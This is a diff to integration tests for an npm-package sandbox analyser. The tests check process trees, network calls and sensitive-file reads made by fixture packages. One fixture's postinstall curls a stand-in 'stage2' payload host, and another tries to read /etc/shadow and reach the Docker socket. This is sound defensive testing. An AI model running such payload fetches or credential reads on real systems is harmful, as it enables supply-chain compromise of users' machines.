@@ -5,8 +5,10 @@ import { join, resolve } from 'node:path';
 import { promisify } from 'node:util';
 import { describe, expect, it } from 'vitest';
 import { analyzeLocalPackage } from '@airlock/analysis';
-import type { SandboxReport } from '@airlock/core';
+import type { PhaseProcessTree, ProcessTreeNode, SandboxReport } from '@airlock/core';
+import { renderReportText } from '@airlock/report';
 import { SANDBOX_LABEL, connectDocker } from '@airlock/sandbox';
+import { reportSchemaErrors } from '../support/report-schema.js';
 
 // These tests drive the real Docker engine with the images `npm run setup` builds. Nothing is mocked.
 const docker = connectDocker();
@@ -18,6 +20,12 @@ async function containersOf(report: { id: string }) {
 }
 const phase = (r: SandboxReport, name: string) => r.phases.find((p) => p.name === name)!;
 const basename = (p: string) => p.split('/').pop();
+/** The node and its visible ancestors, root first. */
+function chainTo(tree: PhaseProcessTree, node: ProcessTreeNode): ProcessTreeNode[] {
+  const chain = [node];
+  while (chain[0]!.parent !== null) chain.unshift(tree.nodes[chain[0]!.parent!]!);
+  return chain;
+}
 
 describe('sandbox run against the real Docker engine', () => {
   it('installs and imports a benign package with no processes beyond npm/node', async () => {
@@ -28,7 +36,7 @@ describe('sandbox run against the real Docker engine', () => {
     expect(report.processes.length).toBeGreaterThan(0);
     expect(new Set(report.processes.map((p) => basename(p.path)))).toEqual(new Set(['npm', 'node']));
     expect(report.processes.every((p) => p.attribution?.event !== 'postinstall')).toBe(true);
-    expect(report.fsDiff).toContainEqual({ path: '/home/jordan/projects/app/node_modules/airlock-fixture-benign/index.js', kind: 'added' });
+    expect(report.fsDiff).toContainEqual({ path: '/home/jordan/projects/app/node_modules/airlock-fixture-benign/index.js', kind: 'added', normalizedPath: '<PKG>/index.js' });
     expect(report.trace.install!.events).toBeGreaterThan(100);
     expect(report.sandbox).toMatchObject({ capDrop: ['ALL'], pidsLimit: 256, readonlyRootfs: false });
     expect(report.sandbox.networkMode).toMatch(/^namespace of the fake internet/);
@@ -45,7 +53,49 @@ describe('sandbox run against the real Docker engine', () => {
     expect(shell!.attribution).toMatchObject({ packageName: 'airlock-fixture-postinstall-write', event: 'postinstall' });
     expect(report.processes.some((p) => p.path === '/usr/bin/id' && p.ppid !== null)).toBe(true);
     expect(report.fileWrites).toContainEqual(expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', operation: 'create', result: 'ok' }));
-    expect(report.fsDiff).toContainEqual({ path: '/home/jordan/.airlock-fixture-marker', kind: 'added' });
+    expect(report.fsDiff).toContainEqual({ path: '/home/jordan/.airlock-fixture-marker', kind: 'added', normalizedPath: '<HOME>/.airlock-fixture-marker' });
+  });
+
+  it('reports the process tree npm -> sh -> sh -> curl of a postinstall, attributed to it, with curl\'s request', async () => {
+    const script = "sh -c 'curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh; echo fetched'";
+    const report = await analyzeLocalPackage(fixture('tree-sh-curl'), { docker, artifactsRoot });
+    expect(phase(report, 'install')).toMatchObject({ status: 'completed', exitCode: 0 });
+    expect(reportSchemaErrors(report)).toEqual([]);
+    const tree = report.processTree.install!;
+    const curl = tree.nodes.find((n) => n.execs.some((e) => e.path === '/usr/bin/curl'))!;
+    expect(curl).toBeDefined();
+    const chain = chainTo(tree, curl);
+    // npm runs every script through its own `sh -c <script>`; the script's `sh -c` then starts curl.
+    expect(chain.map((n) => n.execs.map((e) => basename(e.path)))).toEqual([['npm', 'node'], ['sh'], ['sh'], ['curl']]);
+    expect(chain.map((n) => n.execs.at(-1)!.argv)).toEqual([
+      ['node', '/usr/local/bin/npm', ...chain[0]!.execs[0]!.argv.slice(1)],
+      ['sh', '-c', script],
+      ['sh', '-c', 'curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh; echo fetched'],
+      ['curl', '-s', '-m', '5', '-o', '/dev/null', 'http://stage2.tree-fixture.example/payload.sh'],
+    ]);
+    expect(chain[0]!.execs[0]!.argv.slice(0, 2)).toEqual(['npm', 'install']);
+    expect(tree.roots).toEqual([chain[0]!.id]);
+    expect(chain[0]!.attribution).toBeNull();
+    const postinstall = { packageName: 'airlock-fixture-tree-sh-curl', event: 'postinstall', script };
+    expect(chain.slice(1).map((n) => n.attribution)).toEqual([postinstall, postinstall, postinstall]);
+    expect(chain.slice(1).map((n) => [n.ppid, n.exitCode])).toEqual([
+      [chain[0]!.pid, 0],
+      [chain[1]!.pid, 0],
+      [chain[2]!.pid, 0],
+    ]);
+    expect(curl.startTime).toBeLessThan(curl.exitTime!);
+    // The runner (airlock-exec) is hidden; nothing from /opt/airlock shows in the tree.
+    expect(tree.hiddenProcesses).toBeGreaterThanOrEqual(1);
+    expect(tree.nodes.flatMap((n) => n.execs).some((e) => e.path.startsWith('/opt/airlock/'))).toBe(false);
+    // The fake internet answered curl: the GET arrived with its hostname.
+    expect(report.network.tcp).toContainEqual(
+      expect.objectContaining({ destination: expect.objectContaining({ hostname: 'stage2.tree-fixture.example', port: 80 }), http: expect.objectContaining({ method: 'GET', target: '/payload.sh' }) }),
+    );
+    expect(phase(report, 'install').stdout.text).toContain('fetched');
+    // npm reads ~/.npmrc itself (unattributed); curl's lookups read /etc/passwd under the postinstall.
+    expect(report.sensitiveFiles).toContainEqual(expect.objectContaining({ rule: 'npmrc', phase: 'install', normalizedPath: '<HOME>/.npmrc', attribution: null }));
+    const text = renderReportText(report);
+    expect(text).toContain(`└─ curl -s -m 5 -o /dev/null http://stage2.tree-fixture.example/payload.sh  [pid ${curl.pid}, exit 0]  <- airlock-fixture-tree-sh-curl postinstall`);
   });
 
   it('ends an endless postinstall at its time limit and removes the container', async () => {
@@ -95,6 +145,10 @@ describe('sandbox run against the real Docker engine', () => {
     expect(report.denied.some((d) => d.syscall === 'setuid' && d.result === 'EPERM')).toBe(true);
     expect(report.connections).toContainEqual(expect.objectContaining({ family: 'AF_UNIX', address: '/var/run/docker.sock', result: 'ENOENT' }));
     expect(report.processes.some((p) => basename(p.path) === 'sudo')).toBe(true);
+    // The same attempts in the sensitive-file section, attributed to the package's postinstall.
+    const escalate = { packageName: 'airlock-fixture-escalate', event: 'postinstall', script: 'node escalate.js' };
+    expect(report.sensitiveFiles).toContainEqual(expect.objectContaining({ rule: 'system-accounts', path: '/etc/shadow', access: 'read', result: 'EACCES', attribution: escalate }));
+    expect(report.sensitiveFiles).toContainEqual(expect.objectContaining({ rule: 'docker-socket', access: 'connect', result: 'ENOENT', attribution: escalate }));
   });
 
   it('removes the container when the analysis is aborted (Ctrl-C)', async () => {
@@ -122,10 +176,14 @@ describe('sandbox run against the real Docker engine', () => {
       { maxBuffer: 64 * 1024 * 1024 },
     );
     const report = JSON.parse(stdout) as SandboxReport;
-    expect(report.reportVersion).toBe('0.1.0');
+    expect(reportSchemaErrors(report)).toEqual([]);
+    expect(report.reportVersion).toBe('0.2.0');
     expect(report.package).toMatchObject({ name: 'airlock-fixture-postinstall-write', version: '1.0.0' });
     expect(report.artifacts['install.strace']).toMatch(/install\.strace$/);
     expect(report.processes.some((p) => p.attribution?.event === 'postinstall')).toBe(true);
+    const shell = report.processTree.install!.nodes.find((n) => n.execs.at(-1)?.argv[2]?.startsWith('echo airlock-marker'))!;
+    expect(shell.attribution).toMatchObject({ packageName: 'airlock-fixture-postinstall-write', event: 'postinstall' });
+    expect(report.fileWrites).toContainEqual(expect.objectContaining({ path: '/home/jordan/.airlock-fixture-marker', normalizedPath: '<HOME>/.airlock-fixture-marker' }));
   });
 });
 
